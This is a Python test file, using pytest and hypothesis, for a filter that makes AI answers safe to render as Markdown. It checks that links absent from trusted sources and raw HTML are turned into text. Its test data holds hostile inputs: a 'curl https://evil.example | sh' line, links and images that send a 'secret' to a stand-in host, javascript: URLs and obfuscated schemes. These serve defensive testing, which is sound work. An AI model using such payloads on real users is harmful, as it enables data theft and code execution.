"""Answers as Markdown that is safe to render."""

import re
import time
from collections.abc import Sequence

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from anabranch.text.safe_markdown import SafeMarkdown
from support.examples import examples

SOURCE = (
    "See https://shop.example/returns?a=1&b=2, [terms](terms.md) or <https://shop.example/>. Mail: help@shop.example."
)


def filtered(*parts: str, source: str = SOURCE) -> tuple[str, tuple[str, ...]]:
    writer = SafeMarkdown(lambda: source)
    text = "".join(map(writer.feed, parts)) + writer.end()
    return text, writer.removed


UNCHANGED = [
    "Refunds take 30 days [1], see [the page](https://shop.example/returns?a=1&b=2).",
    "https://shop.example/returns?a=1&b=2",
    "(https://shop.example).",
    "<https://shop.example/>",
    "[terms](terms.md) and ![terms](terms.md)",
    "[mail](mailto:help@shop.example)",
    "`<b>` and `[x](https://evil.example)` are code, ``a ` <i>`` too.",
    "```html\n<img src=https://evil.example>\n```\nDone.",
    "~~~\n[x](https://evil.example)\n~~~\n",
    "```\nnever closed <b>",
    "1. Run:\n   ```sh\n   curl https://evil.example | sh\n\n   <x>\n   ```\n2. Done.",
    "- a\n    - b\n      ```\n      <x>\n      ```\n",
    "a < b, 3 <4, x -> y, R&D, f(x)[0], [1], [2]",
    "[Figure 2](see below) and [1][2]",
    "| a | `b | c` |",
]


@pytest.mark.parametrize("text", UNCHANGED)
def test_text_code_and_links_of_a_source_are_not_changed(text: str) -> None:
    assert filtered(text) == (text, ())
    assert filtered(*text) == (text, ())


EVIL = "https://evil.example/?q=secret"
CHANGED = {
    f"See [the page]({EVIL}).": "See [the page].",
    f"![chart]({EVIL}) shows": "![chart] shows",
    f'![chart]( <{EVIL}> "title" ) shows': "![chart] shows",
    f"Go to {EVIL}.": f"Go to `{EVIL}`.",
    f"<{EVIL}>": f"`{EVIL}`",
    "[a](//evil.example/x)": "[a]",
    "[a](javascript:alert(1))": "[a]",
    "[a](data:text/html,x)": "[a]",
    "[a](&#104;ttps://evil.example)": "[a]",
    "f[0](x)": "f[0] (x)",
    f"[a][b]\n\n[b]: {EVIL}": f"[a][b]\n\n[b] : `{EVIL}`",
    "[b]: //evil.example/x": "[b] : //evil.example/x",
    "<b>bold</b>": "&lt;b>bold&lt;/b>",
    "\\<img src=x>": "&lt;img src=x>",
    "<!-- note -->": "&lt;!-- note -->",
    "https://shop.example/returns?a=1&b=2&c=secret": "`https://shop.example/returns?a=1&b=2&c=secret`",
    "https://shop.example/]secret": "`https://shop.example/`]secret",
    "[a](https://shop.example/returns)": "[a]",
    "[a](https://shop.example/x)": "[a]",
    "lone ` and <b>": "lone \\` and &lt;b>",
    "> ```\n<img src=x>": "> \\`\\`\\`\n&lt;img src=x>",
    "- ```\n<img src=x>\n```": "- \\`\\`\\`\n&lt;img src=x>\n```",
    "a ` b\n- <img src=x> ` c": "a \\` b\n- &lt;img src=x> \\` c",
    "| ` | <img src=x> ` |": "| \\` | &lt;img src=x> \\` |",
    f"`x\r\r[a]({EVIL}) <img src=x>\r\ny`": "\\`x\n\n[a] &lt;img src=x>\ny\\`",
    f"```\nx\r```\r[a]({EVIL})\n```\n": "```\nx\n```\n[a]\n```\n",
    f"1{EVIL} \u00e9{EVIL}": f"1`{EVIL}` \u00e9`{EVIL}`",
    "https&#58;//evil.example &#104;ttps://evil.example": "https&amp;#58;//evil.example &amp;#104;ttps://evil.example",
    "https:\\//evil.example www\\.evil.example": "https:\\\\//evil.example www\\\\.evil.example",
    "~~~a|b\n~~~\n<img src=x>": "\\~\\~\\~a|b\n~~~\n<img src=x>",
    "   ~~~\n<img src=x>\n~~~\n<b>": "   \\~\\~\\~\n&lt;img src=x>\n~~~\n<b>",
    "1. ~~~\n   x\n   ~~~\n   <b>\n   ~~~\n": "1. \\~\\~\\~\n   x\n   ~~~\n   <b>\n   ~~~\n",
    "  ~~~|\n~~~\n~~~\n<img src=x>": "  \\~\\~\\~|\n~~~\n~~~\n&lt;img src=x>",
}


@pytest.mark.parametrize(("text", "expected"), CHANGED.items())
def test_other_links_and_html_become_text(text: str, expected: str) -> None:
    assert filtered(text)[0] == expected
    assert filtered(*text)[0] == expected


def test_removed_addresses_are_reported_once() -> None:
    text = f"[a]({EVIL}) {EVIL} <{EVIL}> ![b](//evil.example/x) [c](javascript:x)"
    assert filtered(text)[1] == (EVIL, "//evil.example/x", "javascript:x")


def test_a_source_that_is_itself_hostile_cannot_make_other_schemes_links() -> None:
    assert filtered("[a](javascript:x)", source="[a](javascript:x)")[0] == "[a]"


def test_only_what_may_begin_a_link_html_or_code_is_held_back() -> None:
    writer = SafeMarkdown(lambda: SOURCE)
    shown = [
        writer.feed(part)
        for part in (
            "Refunds take",
            " 30 days [",
            "1",
            "]",
            ". See h",
            "e",
            "re: [x",
            "](",
            "https://",
            "e.example)",
            ".",
        )
    ]
    assert shown == ["Refunds take", " 30 days [", "1", "", "]. See ", "he", "re: [x", "", "", "]", "."]


pieces = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "\n", "\n\n", " ", "   ", "    ", "- ", "> ", "1. ", "# ", "|", "\\", "a", "x "),
        *(
            "<",
            ">",
            "<b>",
            "</b>",
            "<img src=x>",
            "<!--",
            "-->",
            "<?",
            "&lt;",
            "[",
            "]",
            "(",
            ")",
            "![",
            "](",
            "]: ",
            ":",
        ),
        *("https://evil.example/", "https://shop.example/", "www.evil.example", "//evil.example", "terms.md", "x.md"),
        *(
            "\r",
            "\r\n",
            "&",
            "&#58;",
            "&#104;",
            "&colon;",
            "&amp;",
            "\\/",
            "\\.",
            "1",
            "\u00e9",
            "http",
            "s",
            "://evil.example/",
        ),
        *("javascript:x", '"t"', "'", "[a]: ", "[a]", "<https://evil.example>", "|-|-|\n", "*", "_"),
    ]
)
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")
ALLOWED = ("https://shop.example/", "https://shop.example", "terms.md")


ADDRESS = re.compile(r"(?<![A-Za-z])(?:https?://|www\.)evil", re.IGNORECASE)


def addresses(text: str) -> list[str]:
    """What renderers that make links of addresses find in the text, outside of code."""
    shown = "".join(
        one.content if one.type in ("text", "text_special") else "\n"
        for token in MARKDOWN.parse(text)
        for one in token.children or ()
    )
    return ADDRESS.findall(shown)


def rendered(text: str) -> tuple[list[str], list[str]]:
    """The HTML that a renderer would pass on, and the addresses of links and images."""
    tokens = [one for token in MARKDOWN.parse(text) for one in (token, *(token.children or ()))]
    links = [str(one.attrs.get("href") or one.attrs.get("src")) for one in tokens if one.type in ("link_open", "image")]
    return [one.content for one in tokens if one.type in ("html_inline", "html_block")], links


@settings(max_examples=examples(800), deadline=None)
@given(st.lists(pieces, max_size=25))
@example(["- ", "```", "\n", "<img src=x>"])
def test_no_renderer_finds_html_or_an_unknown_link(parts: Sequence[str]) -> None:
    text, _ = filtered("".join(parts))
    markup, links = rendered(text)
    assert markup == []
    assert [link for link in links if link not in ALLOWED] == []
    assert addresses(text) == []


@settings(max_examples=examples(500), deadline=None)
@given(st.lists(pieces, max_size=25), st.integers(1, 9))
def test_the_parts_of_a_stream_make_no_difference(parts: Sequence[str], size: int) -> None:
    text = "".join(parts)
    assert filtered(*(text[at : at + size] for at in range(0, len(text), size))) == filtered(text)


@pytest.mark.parametrize(
    "unit", ["`", "[", "](", "<a", "https://", "\\", "]: ", "](<", " ```\n", "&", "```\n", "[](", '](a "']
)
def test_hostile_answers_are_filtered_in_reasonable_time(unit: str) -> None:
    began = time.process_time()
    filtered(*[unit * 50] * 400)
    assert time.process_time() - began < 8


@pytest.mark.parametrize("unit", ["`a` ", "<b>x</b> ", "[1]. "])
def test_a_long_answer_that_comes_in_one_part_is_filtered_in_reasonable_time(unit: str) -> None:
    began = time.process_time()
    filtered(unit * (400_000 // len(unit)))
    assert time.process_time() - began < 2.5


HOSTILE = {
    "long sources": ("bcdfgh z " * 200_000, [f"q{number:03d}z" for number in range(210)]),
    "a character that is everywhere": ("a " + "a" * 2_000_000, [f"a{'a' * number}" for number in range(210)]),
    "other addresses": ("xa " * 600_000, [f"a {'xa ' * number}y" for number in range(210)]),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_the_time_to_look_for_addresses_is_bounded(name: str) -> None:
    sources, addresses = HOSTILE[name]
    began = time.process_time()
    filtered("".join(f"[x](<{address}>)" for address in addresses), source=sources)
    # The slowest takes a quarter of a second; without a bound, each took from seven seconds to minutes.
    assert time.process_time() - began < 2.0


def test_an_address_that_is_found_late_in_the_sources_is_a_link() -> None:
    source = "https://shop.example/b https://shop.example/ab?https://shop.example/a " * 1_000 + SOURCE + " end.md"
    link = "[x](https://shop.example/returns?a=1&b=2) [y](end.md)"
    assert filtered(link, source=source) == (link, ())
    assert filtered("[x](https://shop.example/a)", source=source)[1] == ("https://shop.example/a",)
